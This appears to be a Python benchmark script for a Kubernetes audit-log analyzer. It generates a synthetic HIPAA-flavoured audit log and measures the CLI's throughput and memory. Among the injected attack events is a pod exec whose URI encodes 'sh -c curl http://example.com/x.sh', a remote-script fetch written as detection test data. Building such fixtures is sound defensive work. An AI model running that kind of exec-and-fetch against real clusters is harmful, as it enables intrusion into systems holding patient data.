"""Benchmark `kubehipaa audit analyze` on a seeded synthetic audit log.

Generates N (default 1,000,000) realistic audit.k8s.io/v1 events of about 1 KB each — lease renewals,
node status patches, controller list/watch, kubelet TokenRequests, application secret reads, human
kubectl traffic, pod creations logged at Request level, RequestReceived+ResponseComplete stage pairs,
403s and a few injected attacks — then runs the real CLI (`python -m kubehipaa.cli.main audit analyze`)
pinned to one CPU with all built-in rules (`--jobs 1`: the per-core figure), and prints events/second and the
child's peak RSS. It repeats the run on a 10x shorter prefix of the same log to show that memory does not grow
with log length. Then it runs the full log with `--jobs N` (default 2) on N CPUs: the issue-16 figure, which
must be the same analysis (the two JSON reports are compared, `generatedAt` aside).

Usage: python bench/audit_bench.py [--events 1000000] [--seed 7] [--keep FILE [--reuse]] [--repeat N] [--jobs N]
"""

from __future__ import annotations

import argparse
import datetime as dt
import os
import random
import subprocess
import sys
import tempfile
import time
import uuid
import zlib
from pathlib import Path
from typing import Any

import orjson

NAMESPACES = ["clinical", "billing", "portal", "monitoring", "ingress-nginx", "default"]
HUMANS = ["jane@hospital.org", "raj@hospital.org", "li@hospital.org", "ops-oncall@hospital.org"]
NODES = [f"ip-10-0-{i // 8}-{10 + i}.ec2.internal" for i in range(40)]
KCM_UA = "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/a51b3b7/leader-election"
KUBELET_UA = "kubelet/v1.30.4 (linux/amd64) kubernetes/a51b3b7"
KUBECTL_UA = "kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350"


_RNG = random.Random(0)
"""Source of the incidental random bits (credential ids, node names); reseeded by `generate`."""


def _user(name: str, groups: list[str], extra: bool = False) -> dict[str, Any]:
    u: dict[str, Any] = {"username": name, "uid": str(uuid.UUID(int=zlib.crc32(name.encode()) << 64)),
                         "groups": groups}
    if extra:
        u["extra"] = {"authentication.kubernetes.io/credential-id": [f"JTI={_RNG.getrandbits(128):032x}"],
                      "authentication.kubernetes.io/node-name": [_RNG.choice(NODES)]}
    return u


def _sa(ns: str, name: str) -> dict[str, Any]:
    return _user(f"system:serviceaccount:{ns}:{name}",
                 ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"], extra=True)


def _event(rng: random.Random, t: dt.datetime, verb: str, user: dict[str, Any], ua: str, ip: str,
           resource: str, ns: str | None, name: str | None, code: int, uri: str, *, group: str = "",
           sub: str | None = None, level: str = "Metadata", stage: str = "ResponseComplete",
           body: dict[str, Any] | None = None, reason: str = "") -> dict[str, Any]:
    ref: dict[str, Any] = {"resource": resource, "apiVersion": "v1"}
    if group:
        ref["apiGroup"] = group
        ref["apiVersion"] = "v1"
    if ns:
        ref["namespace"] = ns
    if name:
        ref["name"] = name
    if sub:
        ref["subresource"] = sub
    ts = t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}Z"
    ev: dict[str, Any] = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level,
        "auditID": str(uuid.UUID(int=rng.getrandbits(128), version=4)), "stage": stage, "requestURI": uri,
        "verb": verb, "user": user, "sourceIPs": [ip], "userAgent": ua, "objectRef": ref,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": ts, "stageTimestamp": ts,
        "annotations": {
            "authorization.k8s.io/decision": "allow" if code < 400 or code == 404 else "forbid",
            "authorization.k8s.io/reason": reason or 'RBAC: allowed by ClusterRoleBinding "system:controller" of '
            'ClusterRole "system:controller:generic" to ServiceAccount "generic/kube-system"',
        },
    }
    if code >= 400:
        ev["responseStatus"] = {"metadata": {}, "status": "Failure", "reason": "Forbidden", "code": code,
                                "message": f'{resource} is forbidden: User cannot {verb} resource "{resource}"'}
    if body is not None:
        ev["requestObject"] = body
    return ev


def _pod_body(rng: random.Random, ns: str, name: str, privileged: bool = False) -> dict[str, Any]:
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": name, "namespace": ns, "labels": {"app": name.rsplit("-", 2)[0]}},
            "spec": {"serviceAccountName": "app",
                     "containers": [{"name": "app", "image": f"registry.hospital.org/{ns}/app:1.{rng.randint(0, 9)}",
                                     "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}},
                                     "securityContext": {"privileged": privileged, "runAsNonRoot": not privileged}}]}}


def generate(path: Path, n: int, seed: int) -> tuple[int, float]:
    """Write n events; returns (bytes written, average bytes per event)."""
    rng = random.Random(seed)
    _RNG.seed(seed + 1)
    t = dt.datetime(2026, 11, 1, 0, 0, 0, tzinfo=dt.UTC)
    kcm = _user("system:kube-controller-manager", ["system:authenticated"])
    sched = _user("system:kube-scheduler", ["system:authenticated"])
    total = 0
    with path.open("wb") as fh:
        buf: list[bytes] = []
        for i in range(n):
            t += dt.timedelta(microseconds=rng.randint(200, 2600))
            r = rng.random()
            ns = rng.choice(NAMESPACES)
            node = rng.choice(NODES)
            node_user = _user(f"system:node:{node}", ["system:nodes", "system:authenticated"])
            node_ip = f"10.0.{rng.randint(0, 5)}.{rng.randint(2, 250)}"
            if r < 0.28:
                ev = _event(rng, t, rng.choice(["get", "update"]), node_user, KUBELET_UA, node_ip, "leases",
                            "kube-node-lease", node, 200,
                            f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s",
                            group="coordination.k8s.io")
            elif r < 0.40:
                ev = _event(rng, t, "patch", node_user, KUBELET_UA, node_ip, "nodes", None, node, 200,
                            f"/api/v1/nodes/{node}/status?timeout=10s", sub="status")
            elif r < 0.52:
                res = rng.choice(["configmaps", "endpoints", "endpointslices", "services", "pods"])
                ev = _event(rng, t, rng.choice(["list", "watch", "get"]), rng.choice([kcm, sched]), KCM_UA,
                            "10.0.0.10", res, ns, None, 200, f"/api/v1/namespaces/{ns}/{res}?resourceVersion=0")
            elif r < 0.62:
                ev = _event(rng, t, rng.choice(["get", "list"]), _sa(ns, "app"), "ehr-api/2.3.1", f"10.244.{rng.randint(0, 30)}.{rng.randint(2, 250)}",
                            "pods", ns, f"app-{rng.randint(0, 50)}", 200, f"/api/v1/namespaces/{ns}/pods")
            elif r < 0.70:
                ev = _event(rng, t, "create", node_user, KUBELET_UA, node_ip, "events", ns, f"app.{i:x}", 201,
                            f"/api/v1/namespaces/{ns}/events")
            elif r < 0.75:
                ev = _event(rng, t, "create", node_user, KUBELET_UA, node_ip, "serviceaccounts", ns, "app", 201,
                            f"/api/v1/namespaces/{ns}/serviceaccounts/app/token", sub="token")
            elif r < 0.80:
                ev = _event(rng, t, "get", _sa(ns, "app"), "ehr-api/2.3.1", f"10.244.3.{rng.randint(2, 250)}",
                            "secrets", ns, f"db-credentials-{rng.randint(0, 3)}", 200,
                            f"/api/v1/namespaces/{ns}/secrets/db-credentials")
            elif r < 0.84:
                ev = _event(rng, t, "update", kcm, KCM_UA, "10.0.0.10", rng.choice(["deployments", "replicasets"]),
                            ns, f"app-{rng.randint(0, 50)}", 200, f"/apis/apps/v1/namespaces/{ns}/deployments/app/status",
                            group="apps", sub="status")
            elif r < 0.87:
                human = rng.choice(HUMANS)
                res = rng.choice(["pods", "deployments", "services", "configmaps", "secrets"])
                ev = _event(rng, t, rng.choice(["get", "list"]), _user(human, ["clinical-devs", "system:authenticated"]),
                            KUBECTL_UA, f"203.0.113.{rng.randint(1, 40)}", res, "clinical", None, 200,
                            f"/api/v1/namespaces/clinical/{res}?limit=500", reason='RBAC: allowed by RoleBinding "devs"')
            elif r < 0.91:
                name = f"app-{rng.randint(0, 50)}-{i:x}"
                ev = _event(rng, t, "create", _sa("kube-system", "replicaset-controller"), KCM_UA, "10.0.0.10",
                            "pods", ns, None, 201, f"/api/v1/namespaces/{ns}/pods", level="Request",
                            body=_pod_body(rng, ns, name, privileged=rng.random() < 0.002))
            elif r < 0.95:
                stage_pair = _event(rng, t, "get", _sa(ns, "app"), "ehr-api/2.3.1", "10.244.9.9", "configmaps", ns,
                                    "app-config", 200, f"/api/v1/namespaces/{ns}/configmaps/app-config")
                first = dict(stage_pair, stage="RequestReceived")
                first.pop("responseStatus")
                buf.append(orjson.dumps(first) + b"\n")
                ev = stage_pair
            elif r < 0.98:
                ev = _event(rng, t, "list", _sa("portal", "frontend"), "frontend/1.0", "10.244.7.7", "secrets",
                            "billing", None, 403, "/api/v1/namespaces/billing/secrets")
            else:
                kind = rng.random()
                human = _user(rng.choice(HUMANS), ["clinical-devs", "system:authenticated"])
                if kind < 0.4:
                    ev = _event(rng, t, "create", human, KUBECTL_UA, "203.0.113.9", "pods", "clinical", "ehr-0", 101,
                                "/api/v1/namespaces/clinical/pods/ehr-0/exec?command=sh&command=-c&command=curl%20"
                                "http%3A%2F%2Fexample.com%2Fx.sh&container=app&stdout=true", sub="exec")
                elif kind < 0.8:
                    ev = _event(rng, t, "get", human, KUBECTL_UA, "198.51.100.7", "secrets", rng.choice(NAMESPACES),
                                f"secret-{rng.randint(0, 40)}", 200, "/api/v1/namespaces/x/secrets/y")
                else:
                    ev = _event(rng, t, "get", _user("system:anonymous", ["system:unauthenticated"]), "curl/8.5",
                                "45.33.32.156", "secrets", "clinical", None, 403, "/api/v1/namespaces/clinical/secrets")
            buf.append(orjson.dumps(ev) + b"\n")
            if len(buf) >= 10_000:
                data = b"".join(buf)
                total += len(data)
                fh.write(data)
                buf.clear()
        data = b"".join(buf)
        total += len(data)
        fh.write(data)
    return total, total / n


def startup_cost() -> tuple[float, float, int]:
    """Wall, CPU and RSS of the CLI doing nothing but start (imports of every command group)."""
    return _run_child([sys.executable, "-m", "kubehipaa.cli.main", "audit", "rules", "list", "-f", "json",
                       "-o", os.devnull])


def run_analyze(path: Path, jobs: int = 1, out: str = os.devnull) -> tuple[float, float, int]:
    """Run the real CLI with `--jobs` on as many CPUs; returns (wall seconds, CPU seconds, peak RSS bytes).

    CPU seconds (user + system of the child and of its worker processes) are printed next to wall time
    because on a shared machine the wall clock also measures other people's work; with `--jobs 1` the CPU
    figure is what one core spent on the analysis. Peak RSS is the largest single process's.
    """
    return _run_child([sys.executable, "-m", "kubehipaa.cli.main", "audit", "analyze", str(path), "--format",
                       "json", "-o", out, "--fail-on", "never", "--jobs", str(jobs)], cpus=jobs)


def _run_child(cmd: list[str], cpus: int = 1) -> tuple[float, float, int]:
    def pin() -> None:
        if hasattr(os, "sched_setaffinity"):
            os.sched_setaffinity(0, set(sorted(os.sched_getaffinity(0))[:cpus]))

    start = time.perf_counter()
    proc = subprocess.Popen(cmd, stderr=subprocess.PIPE, preexec_fn=pin)
    _pid, status, usage = os.wait4(proc.pid, 0)
    wall = time.perf_counter() - start
    err = proc.stderr.read().decode() if proc.stderr else ""
    if os.waitstatus_to_exitcode(status) != 0:
        raise SystemExit(f"audit analyze failed: {err}")
    return wall, usage.ru_utime + usage.ru_stime, usage.ru_maxrss * 1024


def _fastest(run: Any, repeat: int, by: int = 1) -> tuple[float, float, int]:
    """The fastest of `repeat` runs by CPU time (`by` 1; one process: other jobs only ever add time) or by
    wall time (`by` 0: with several processes, wall time is what --jobs buys), and the largest peak RSS."""
    runs = [run() for _ in range(max(1, repeat))]
    best = min(runs, key=lambda r: r[by])
    return best[0], best[1], max(r[2] for r in runs)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--keep", type=Path, default=None, help="write the generated log here and keep it")
    ap.add_argument("--reuse", action="store_true", help="with --keep: reuse that file if it exists")
    ap.add_argument("--jobs", type=int, default=2, help="also run the full log with --jobs N on N CPUs (0: skip)")
    ap.add_argument("--repeat", type=int, default=1,
                    help="run each measurement N times and report the fastest (CPU time): on a shared machine "
                         "other jobs only ever add time")
    args = ap.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        log = args.keep or Path(tmp) / "audit.log"
        if args.reuse and args.keep and args.keep.exists():
            size = args.keep.stat().st_size
            print(f"reusing {args.keep} ({size / 1e6:.0f} MB)")
        else:
            t0 = time.perf_counter()
            size, avg = generate(log, args.events, args.seed)
            gen_s = time.perf_counter() - t0
            print(f"generated {args.events:,} events ({size / 1e6:.0f} MB, {avg:.0f} bytes/event avg) "
                  f"in {gen_s:.1f} s, seed {args.seed}")
        small = Path(tmp) / "audit-small.log"
        with log.open("rb") as src, small.open("wb") as dst:
            for i, line in enumerate(src):
                if i >= max(1, args.events // 10):
                    break
                dst.write(line)
        lines = sum(1 for _ in log.open("rb"))
        load = os.getloadavg()[0] if hasattr(os, "getloadavg") else float("nan")
        print(f"machine: {os.cpu_count()} CPUs, load average {load:.2f} before the runs")
        s_wall, s_cpu, s_rss = _fastest(startup_cost, args.repeat)
        print(f"CLI start-up alone (imports): wall {s_wall:.2f} s, CPU {s_cpu:.2f} s, peak RSS {s_rss / 2**20:.0f} MiB")
        for label, p, n in (("1/10 prefix", small, max(1, args.events // 10)), ("full log", log, lines)):
            wall, cpu, rss = _fastest(lambda p=p: run_analyze(p), args.repeat)
            net = max(cpu - s_cpu, 1e-9)
            print(f"audit analyze --jobs 1, all built-in rules, pinned to 1 CPU, {label}: {n:,} lines; "
                  f"wall {wall:.2f} s = {n / wall:,.0f} events/s; CPU {cpu:.2f} s = {n / cpu:,.0f} events/s "
                  f"(without start-up {n / net:,.0f} events/s); peak RSS {rss / 2**20:.0f} MiB")
        if args.jobs > 1:
            one, many = Path(tmp) / "jobs1.json", Path(tmp) / "jobsn.json"
            run_analyze(log, 1, str(one))
            wall, cpu, rss = _fastest(lambda: run_analyze(log, args.jobs, str(many)), args.repeat, by=0)
            same = _same_report(one, many)
            print(f"audit analyze --jobs {args.jobs}, all built-in rules, on {args.jobs} CPUs, full log: {lines:,} "
                  f"lines; wall {wall:.2f} s = {lines / wall:,.0f} events/s end to end; CPU of all processes "
                  f"{cpu:.2f} s; peak RSS {rss / 2**20:.0f} MiB; report identical to --jobs 1: {same}")
            if not same:
                raise SystemExit("--jobs gave a different report than --jobs 1")


def _same_report(a: Path, b: Path) -> bool:
    """The two JSON reports are equal but for the time they were generated."""
    docs = [orjson.loads(p.read_bytes()) for p in (a, b)]
    for d in docs:
        d.pop("generatedAt", None)
    return docs[0] == docs[1]


if __name__ == "__main__":
    main()
